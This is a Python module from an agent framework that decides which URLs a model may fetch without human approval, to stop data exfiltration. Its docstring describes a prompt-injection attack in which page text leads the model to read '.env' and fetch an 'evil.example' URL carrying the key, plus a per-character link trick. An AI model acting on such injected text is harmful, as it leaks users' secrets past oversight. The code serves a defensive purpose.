"""Where the URLs in a conversation came from, so a fetch of a URL the model made up can be held for a person.

The exfiltration this guards against: injected page text tells the model to ``read_file('.env')`` and then
``fetch_url('https://evil.example/?k=<the key>')``. Every step is read-only, yet the data leaves. What gives it
away is the URL: it did not come from anyone the user trusts, the model composed it. So a URL is *trusted* only
when it appears, exactly (scheme, fragment, one trailing slash and letter case of the host aside), in

- a system or user message (typed by the developer or the user; bare ``example.com/page`` counts too);
- a result of a tool marked ``url_source`` (web search results), as a value that is a URL on its own — URLs
  inside prose such as a result's snippet do not count, since page authors write those;
- the arguments of an earlier call to a tool with an approval check that ran without error (a person approved
  it, or it was already trusted).

Links inside fetched pages are *not* trusted: a hostile page could list one link per possible character and have
the model pick them in order. Trust is derived from the messages alone, so a reloaded session keeps it.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import TYPE_CHECKING, Any

import httpx

from agentkit.messages import to_dict

if TYPE_CHECKING:
    from agentkit.tools.runtime import Tool

__all__ = ["UrlTrust", "url_key"]

_TOKEN_SPLIT = re.compile(r"[\s<>\"'`()\[\]{}|\\^]+")  # one character class: linear, no backtracking
_TRAILING = ".,;:!?*"
_MAX_SCAN_CHARS = 1_000_000  # of one message; a longer paste is scanned up to here


def url_key(url: str) -> str | None:
    """A comparison key for an http(s) URL (host lower-cased, default port and fragment dropped); None if none.

    Everything that is sent stays in the key (user info, host, port, path, query): two URLs with one key carry
    the same data to the same place.

    The scheme and one trailing slash of the path are left out: ``http://`` and ``https://`` versions of a
    URL, or ``/docs`` and ``/docs/``, carry the same data out.
    """
    text = url.strip()
    if not text:
        return None
    if "://" not in text:
        text = "http://" + text
    try:
        parsed = httpx.URL(text)
    except (httpx.InvalidURL, ValueError, UnicodeError):
        return None
    if parsed.scheme not in ("http", "https") or not parsed.host:
        return None
    port = f":{parsed.port}" if parsed.port is not None else ""
    # User info stays in the key: ``https://<secret>@trusted.example/`` sends the secret as a password.
    userinfo = parsed.userinfo.decode("ascii") + "@" if parsed.userinfo else ""
    path, mark, query = parsed.raw_path.decode("ascii").partition("?")
    if len(path) > 1 and path.endswith("/"):
        path = path[:-1]  # models add or drop one trailing slash; it carries a single bit at most
    return f"{userinfo}{parsed.host}{port}{path or '/'}{mark}{query}"


def urls_in_text(text: str) -> set[str]:
    """Keys of every URL or host/path written in free text (false positives only widen what the user wrote)."""
    keys: set[str] = set()
    for token in _TOKEN_SPLIT.split(text[:_MAX_SCAN_CHARS]):
        token = token.strip(_TRAILING)
        if "." in token or "://" in token:
            key = url_key(token)
            if key is not None:
                keys.add(key)
    return keys


def url_values(value: Any) -> set[str]:
    """Keys of the strings in a nested value that are each a whole http(s) URL (not URLs inside prose)."""
    keys: set[str] = set()
    for text in _strings(value):
        candidate = text.strip()
        if candidate.lower().startswith(("http://", "https://")) and not any(c.isspace() for c in candidate):
            key = url_key(candidate)
            if key is not None:
                keys.add(key)
    return keys


def _strings(value: Any) -> Iterator[str]:
    stack = [value]
    while stack:  # iterative: a deeply nested tool result must not hit the recursion limit
        item = stack.pop()
        if isinstance(item, str):
            yield item
        elif isinstance(item, Mapping):
            stack.extend(item.values())
        elif isinstance(item, list | tuple):
            stack.extend(item)


def _failed(content: Any) -> bool:
    return isinstance(content, Mapping) and "error" in content


class UrlTrust:
    """The trusted URL keys of a conversation, from its messages; the scan of ``history`` is kept between calls.

    History only grows by appending, so the keys of the conversation last seen are extended with the messages
    added after it (the same messages, at the start of the new one); any other conversation is scanned from the
    start. Messages are typed (:mod:`agentkit.messages`) or OpenAI-style dicts.
    """

    def __init__(self) -> None:
        self._history: tuple[Any, ...] | None = None
        self._seen = 0
        self._keys: set[str] = set()
        self._calls: dict[str, tuple[str, Any]] = {}

    def trusted(self, history: Sequence[Any], turn: Sequence[Any], tools: Mapping[str, Tool]) -> frozenset[str]:
        """The keys trusted at this point: ``history`` (cached) plus this turn's messages so far."""
        history = tuple(history)
        old = self._history
        # Messages are frozen: the same objects in the same places (an identity check each) are the same text.
        if old is None or len(history) < len(old) or history[: len(old)] != old:
            self._seen, self._keys, self._calls = 0, set(), {}
        self._history = history
        _scan(history[self._seen :], tools, self._keys, self._calls)
        self._seen = len(history)
        keys, calls = set(self._keys), dict(self._calls)
        _scan(turn, tools, keys, calls)
        return frozenset(keys)


def _scan(
    messages: Iterable[Any],
    tools: Mapping[str, Tool],
    keys: set[str],
    calls: dict[str, tuple[str, Any]],
) -> None:
    for message in messages:
        if not isinstance(message, Mapping):
            message = to_dict(message)
        role = message.get("role")
        if role in ("system", "developer", "user"):
            for text in _strings(message.get("content")):
                keys |= urls_in_text(text)
        elif role == "assistant":
            for call in message.get("tool_calls") or ():
                function = call.get("function") or {}
                calls[str(call.get("id"))] = (str(function.get("name")), function.get("arguments"))
        elif role == "tool":
            content = message.get("content")
            if _failed(content):
                continue
            tool = tools.get(str(message.get("name")))
            if tool is not None and tool.url_source:
                keys |= url_values(content)
            name, arguments = calls.get(str(message.get("tool_call_id")), ("", None))
            called = tools.get(name)
            if called is not None and called.approval_check is not None:
                keys |= url_values(arguments)
